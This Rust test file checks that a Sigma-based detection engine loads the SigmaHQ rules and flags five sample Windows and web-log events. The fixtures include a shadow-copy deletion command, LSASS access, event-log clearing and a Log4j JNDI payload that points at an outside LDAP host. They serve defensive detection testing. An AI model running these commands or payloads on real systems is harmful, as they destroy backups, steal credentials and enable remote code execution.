//! The whole of it on real rules, where they are.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::path::Path;
use std::process::Command;
use std::sync::Arc;

use vedetta_detect::sigma::{Pipeline, Placeholders};
use vedetta_detect::{Decoder, Engine, Rules};

/// The rules of SigmaHQ, unpacked; nothing, said aloud, where there are none.
fn sigma_hq() -> Option<Rules> {
    let beside = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/data");
    let data = std::env::var("VEDETTA_SHARED_DATA").unwrap_or_else(|_| beside.into());
    let archive = Path::new(&data).join("sigma.tar.xz");
    if !archive.exists() {
        println!("SKIPPED: no {}", archive.display());
        return None;
    }
    let folder = tempfile::tempdir().unwrap();
    let unpacked =
        Command::new("tar").arg("-C").arg(folder.path()).arg("-xJf").arg(archive).status();
    assert!(unpacked.unwrap().success());
    let mut rules = Rules::new(Placeholders::new());
    let mut folders = vec![folder.path().to_owned()];
    while let Some(next) = folders.pop() {
        for entry in std::fs::read_dir(next).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else if path.extension().is_some_and(|it| it == "yml") {
                rules.take(&path.display().to_string(), &std::fs::read_to_string(&path).unwrap());
            }
        }
    }
    rules.ready();
    Some(rules)
}

const EVENTS: &[(&str, &str)] = &[
    (
        r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\whoami.exe","OriginalFileName":"whoami.exe","CommandLine":"whoami /priv","ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"cmd.exe","User":"CORP\\anna"}"#,
        "Security Privileges Enumeration Via Whoami.EXE",
    ),
    (
        r#"{"Event":{"System":{"EventID":4688,"Channel":"Security"},"EventData":{"NewProcessName":"C:\\Windows\\System32\\vssadmin.exe","CommandLine":"vssadmin.exe delete shadows /all /quiet","ParentProcessName":"C:\\a.exe"}}}"#,
        "Shadow Copies Deletion Using Operating Systems Utilities",
    ),
    (
        r#"{"EventID":1102,"Channel":"Security","Provider_Name":"Microsoft-Windows-Eventlog"}"#,
        "Security Eventlog Cleared",
    ),
    (
        "{\"EventID\":10,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"SourceImage\":\"C:\\\\Temp\\\\a.exe\",\"TargetImage\":\"C:\\\\Windows\\\\system32\\\\lsass.exe\",\"GrantedAccess\":\"0x1010\",\"CallTrace\":\"C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+9c534|UNKNOWN(00000)\"}",
        "Uncommon GrantedAccess Flags On LSASS",
    ),
    (
        r#"192.0.2.1 - - [19/Oct/2026:12:00:00 +0200] "GET /?x=${jndi:ldap://example.org/a} HTTP/1.1" 200 12 "-" "curl/8""#,
        "Log4j RCE CVE-2021-44228 in Fields",
    ),
];

#[test]
fn every_rule_of_sigma_hq_loads_and_finds_the_same_arranged_or_not() {
    let Some(rules) = sigma_hq() else { return };
    assert_eq!(rules.refused(), []);
    assert_eq!(rules.all().len(), 3_754);
    let of_all: Vec<&str> = rules.of_all_events().map(|it| it.title.as_str()).collect();
    assert_eq!(of_all, [""; 0]);
    let mut engine = Engine::new(Arc::new(rules));
    let mut decoder = Decoder::default();
    for (line, title) in EVENTS {
        let event = decoder.read(line.as_bytes()).unwrap().unwrap();
        let found = engine.matches(&event).to_vec();
        assert_eq!(found, engine.unrouted(&event), "{line}");
        let titles: Vec<&str> = found.iter().map(|it| &*engine.rules()[*it].title).collect();
        assert!(titles.contains(title), "{line}: {titles:?}");
    }
}

/// Every file of a corpus, of which there are so many at least.
fn corpus(name: &str, least: usize) -> Vec<(String, Vec<u8>)> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus").join(name);
    let files = std::fs::read_dir(folder).unwrap().map(|it| it.unwrap().path());
    let read = |path: std::path::PathBuf| {
        (path.file_name().unwrap().to_string_lossy().into(), std::fs::read(&path).unwrap())
    };
    let files: Vec<_> = files.map(read).collect();
    assert!(files.len() >= least, "{name}: {} files", files.len());
    files
}

#[test]
fn sigma_rule_corpus() {
    for (name, bytes) in corpus("sigma_rule", 4) {
        let mut rules = Rules::new(Placeholders::new());
        rules.take(&name, &String::from_utf8_lossy(&bytes));
        rules.ready();
        let refused = ["broken.yml", "loose.yml"].contains(&&*name);
        assert_eq!(rules.refused().is_empty(), !refused, "{name}: {:?}", rules.refused());
        assert!(rules.refused().iter().all(|it| it.line > 0));
    }
}

#[test]
fn sigma_pipeline_corpus() {
    for (name, bytes) in corpus("sigma_pipeline", 4) {
        let read = Pipeline::read(std::str::from_utf8(&bytes).unwrap());
        assert_eq!(read.is_err(), name.starts_with("refused"), "{name}: {:?}", read.err());
        let Ok(pipeline) = read else { continue };
        let rules = Rules::with_pipelines(Placeholders::new(), vec![pipeline]);
        assert!(rules.refused().is_empty(), "{name}");
    }
}

#[test]
fn sensor_code_corpus() {
    use vedetta_detect::report::Code;
    for (name, bytes) in corpus("sensor_code", 2) {
        let code = String::from_utf8_lossy(&bytes).parse::<Code>();
        assert_eq!(code.is_ok(), name == "whole.txt", "{name}");
    }
}
